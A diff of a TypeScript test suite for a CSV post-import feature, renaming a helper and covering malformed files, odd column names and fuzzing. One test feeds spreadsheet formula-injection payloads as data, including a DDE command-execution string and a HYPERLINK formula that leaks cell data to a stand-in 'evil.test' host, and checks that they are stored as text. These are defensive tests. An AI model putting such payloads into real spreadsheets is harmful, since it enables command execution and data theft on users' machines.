@@ -46,7 +46,7 @@ describe('[CSV-23, D-CSV-03] a file fails as a whole, and makes no post, when it
     ['never closes a quote', `${GOOD}"${GOOD}`, 'The file is not readable as CSV: in row 2 a quote is never closed.'],
     ['never closes a quote in its header', `"${GOOD}`, 'The file is not readable as CSV: in the header a quote is never closed.'],
   ])('%s', async ([, file, error], { acme }) => {
-    const { entity, rows } = await acme.work(file);
+    const { entity, rows } = await acme.importFile(file);
     expect(entity).toMatchObject({ status: 'FAILED', error, startedAt: null, processedRows: 0, successRows: 0, failedRows: 0 });
     expect(entity.completedAt).toBe(entity.updatedAt);
     expect([rows, await acme.countPosts()]).toEqual([[], 0]);
@@ -54,7 +54,7 @@ describe('[CSV-23, D-CSV-03] a file fails as a whole, and makes no post, when it
 
   it.for(['teamId', 'title', 'postDate', 'status', 'socialAccountTypes'])('lacks the column %s', async (column, { acme }) => {
     const { [column]: _, ...row } = ROW as Readonly<Record<string, string>>;
-    const { entity, rows } = await acme.work(csvOf(row, row));
+    const { entity, rows } = await acme.importFile(csvOf(row, row));
     expect([entity.status, entity.error, rows]).toEqual(['FAILED', `The header lacks the required column ${column}.`, []]);
     expect(await acme.countPosts()).toBe(0);
   });
@@ -71,24 +71,24 @@ describe('a file is taken', () => {
     ['with spaces around its column names', `${HEADER.replaceAll(',', ' , ')}\n${LINE}\n`],
     ['with its columns in another order', `${HEADER.split(',').toReversed()}\n${LINE.split(',').toReversed()}\n`],
   ])('%s', async ([, file], { acme }) => {
-    const { row } = await acme.work(file);
+    const { row } = await acme.importFile(file);
     expect([row.error, row.rawRow]).toEqual([null, ROW]);
   });
 
   it('with unknown columns, even a thousand', async ({ acme }) => {
     const others = Object.fromEntries(Array.from({ length: 1000 }, (_, n) => [`column ${n}`, `cell ${n}`]));
-    const { row } = await acme.work(csvOf({ ...others, ...ROW }));
+    const { row } = await acme.importFile(csvOf({ ...others, ...ROW }));
     expect([row.error, row.rawRow]).toEqual([null, { ...others, ...ROW }]);
     expect(row.normalizedPayload).toMatchObject({ data: { TWITTER: { text: 'It is here' } } });
   });
 
   it('with a repeated column, of which the last counts', async ({ acme }) => {
-    const { row } = await acme.work(`title,${HEADER}\nFirst,${LINE}\n`);
+    const { row } = await acme.importFile(`title,${HEADER}\nFirst,${LINE}\n`);
     expect([row.rawRow['title'], row.normalizedPayload]).toMatchObject(['Spring launch', { title: 'Spring launch' }]);
   });
 
   it('with columns without a name, or with an unusual one', async ({ acme }) => {
-    const { row } = await acme.work(`,__proto__,constructor,${HEADER}\na,b,c,${LINE}\n`);
+    const { row } = await acme.importFile(`,__proto__,constructor,${HEADER}\na,b,c,${LINE}\n`);
     expect(row.error).toBeNull();
     expect(JSON.stringify(row.rawRow)).toBe(
       JSON.stringify(JSON.parse(`{"__proto__":"b","constructor":"c"}`)).replace('}', `,${JSON.stringify(ROW).slice(1)}`),
@@ -97,7 +97,7 @@ describe('a file is taken', () => {
 
   it('with a short line', async ({ acme }) => {
     const { text: _, ...rest } = ROW;
-    const { rows } = await acme.work(`${HEADER},note\n${LINE.split(',').slice(0, 5)}\n${LINE.split(',').slice(0, 2)}\n`);
+    const { rows } = await acme.importFile(`${HEADER},note\n${LINE.split(',').slice(0, 5)}\n${LINE.split(',').slice(0, 2)}\n`);
     expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
       [null, rest],
       ['postDate is required', { teamId: ROW.teamId, title: ROW.title }],
@@ -105,7 +105,7 @@ describe('a file is taken', () => {
   });
 
   it.for([',late', ',', ',,'])('with a line longer than the header, even with empty cells: its row fails', async (more, { acme }) => {
-    const { rows } = await acme.work(`${GOOD}${LINE}${more}\n${LINE}\n`);
+    const { rows } = await acme.importFile(`${GOOD}${LINE}${more}\n${LINE}\n`);
     const cells = 6 + more.split(',').length - 1;
     expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
       [null, ROW],
@@ -117,7 +117,7 @@ describe('a file is taken', () => {
   it.for(["=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.test?x="&A1)', '+1+1', '-1', '@SUM(1)', '\t=1'])(
     'with the formula %j, which is text',
     async (text, { acme }) => {
-      const { row } = await acme.work(csvOf({ ...ROW, title: text, text }));
+      const { row } = await acme.importFile(csvOf({ ...ROW, title: text, text }));
       expect(row.rawRow).toMatchObject({ title: text, text });
       expect(await acme.post(row.postId)).toMatchObject({ title: text, data: { TWITTER: { text } } });
     },
@@ -125,14 +125,14 @@ describe('a file is taken', () => {
 
   it('with NUL and other strange characters, which are text', async ({ acme }) => {
     const text = 'a\0b\u0007c\u200b\u202ed\ufffe💥';
-    const { row } = await acme.work(csvOf({ ...ROW, text }));
+    const { row } = await acme.importFile(csvOf({ ...ROW, text }));
     expect([row.error, row.rawRow['text']]).toEqual([null, text]);
     expect((await acme.post(row.postId)).data.TWITTER?.text).toBe(text);
   });
 
   it('with a cell of 10 MB: as a text its row fails with a short message, elsewhere it is ignored', async ({ acme }) => {
     const huge = 'x'.repeat(10 * 1_048_576);
-    const { rows, entity } = await acme.work(csvOf({ ...ROW, text: huge }, { ...ROW, note: huge }, ROW));
+    const { rows, entity } = await acme.importFile(csvOf({ ...ROW, text: huge }, { ...ROW, note: huge }, ROW));
     expect(rows.map(({ error }) => error)).toEqual(['data.TWITTER.text must be at most 25000 characters long', null, null]);
     expect(rows[1]?.rawRow['note']).toHaveLength(huge.length);
     expect(entity.status).toBe('COMPLETED_WITH_ERRORS');
@@ -152,7 +152,7 @@ describe('whatever the bytes', () => {
   it('the file is accepted, and its import ends', async ({ acme }) => {
     await fc.assert(
       fc.asyncProperty(fc.oneof(spoilt, fc.uint8Array({ maxLength: 300 })), async file => {
-        const { entity, rows } = await acme.work(file);
+        const { entity, rows } = await acme.importFile(file);
         expect(['COMPLETED', 'COMPLETED_WITH_ERRORS', 'FAILED']).toContain(entity.status);
         expect(entity.processedRows).toBe(entity.status === 'FAILED' ? 0 : entity.totalRows);
         expect(rows).toHaveLength(entity.processedRows);
@@ -173,7 +173,7 @@ describe('the files of csv-spectrum', () => {
   it('are present', () => expect(SPECTRUM).toHaveLength(12));
 
   it.for(SPECTRUM)('%s: is not an import', async (name, { acme }) => {
-    const { entity } = await acme.work(readFileSync(`${CORPUS}csvs/${name}.csv`));
+    const { entity } = await acme.importFile(readFileSync(`${CORPUS}csvs/${name}.csv`));
     expect([entity.status, entity.error]).toEqual(['FAILED', NO_COLUMNS]);
   });
 
@@ -182,7 +182,7 @@ describe('the files of csv-spectrum', () => {
     const [header] = /^.+/.exec(text) ?? [];
     const lineEnd = text.includes('\r\n') ? '\r\n' : '\n';
     const records = parse<{ raw: string }>(text, { raw: true, columns: true, relax_quotes: true });
-    const { rows } = await acme.work(
+    const { rows } = await acme.importFile(
       [`${HEADER},${header}`, ...records.map(({ raw }) => `${LINE},${raw.replace(/\r?\n$/, '')}`)].join(lineEnd),
     );
     const meant = [JSON.parse(readFileSync(`${CORPUS}json/${name}.json`, 'utf8'))].flat();
